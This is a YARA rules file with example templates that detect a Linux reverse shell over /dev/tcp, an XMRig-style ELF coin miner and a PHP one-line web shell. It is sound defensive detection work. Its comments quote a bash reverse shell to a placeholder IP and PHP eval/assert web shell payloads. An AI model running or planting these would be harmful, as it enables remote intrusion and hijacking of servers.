/*
  Example rules: realistic, narrow, and meant as templates for your own.

  Each rule needs two or more independent indicators, so that documentation,
  man pages or source code that merely mention a technique do not match.
  Metadata every rule carries (it travels with the verdict to the journal
  and the SIEM):
    description  what the rule detects
    author       who wrote it
    severity     low | medium | high | critical (| test)
    reference    where the technique is documented
*/

rule linux_shell_reverse_shell : linux shell backdoor
{
    meta:
        description = "Shell script spawning an interactive shell wired to a /dev/tcp or /dev/udp socket"
        author = "portcullis"
        severity = "high"
        reference = "https://attack.mitre.org/techniques/T1059/004/"

    strings:
        // bash -i >& /dev/tcp/10.0.0.1/4444 0>&1, sh -i, zsh -i, ...
        $interactive = /\b(ba|da|z|k)?sh\s+-i\b/
        $dev_socket = /\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]{1,253}\/[0-9]{1,5}/
        $dup_stdin = /[0-9]?>&\s*[0-9]/

    condition:
        filesize < 1MB and $interactive and $dev_socket and $dup_stdin
}

rule linux_elf_coin_miner : linux elf miner
{
    meta:
        description = "ELF executable with a Stratum mining pool URL and miner options (XMRig-style cryptominer)"
        author = "portcullis"
        severity = "high"
        reference = "https://attack.mitre.org/techniques/T1496/"

    strings:
        $stratum_tcp = "stratum+tcp://" ascii
        $stratum_ssl = "stratum+ssl://" ascii
        $opt_donate = "--donate-level" ascii
        $opt_algo = "randomx" ascii nocase
        $opt_pool = "\"pools\"" ascii
        $opt_nicehash = "nicehash" ascii nocase

    condition:
        uint32(0) == 0x464C457F and
        any of ($stratum_*) and 2 of ($opt_*)
}

rule php_webshell_eval_request : php webshell
{
    meta:
        description = "PHP file evaluating code taken straight from the HTTP request (one-line web shell)"
        author = "portcullis"
        severity = "critical"
        reference = "https://attack.mitre.org/techniques/T1505/003/"

    strings:
        $php = "<?php" nocase
        // eval($_POST['x']), assert(base64_decode($_REQUEST["c"])), ...
        $eval_request = /\b(eval|assert)\s*\(\s*((base64_decode|gzinflate|str_rot13|stripslashes)\s*\(\s*)*\$_(GET|POST|REQUEST|COOKIE)\s*\[/ nocase

    condition:
        filesize < 512KB and $php and $eval_request
}
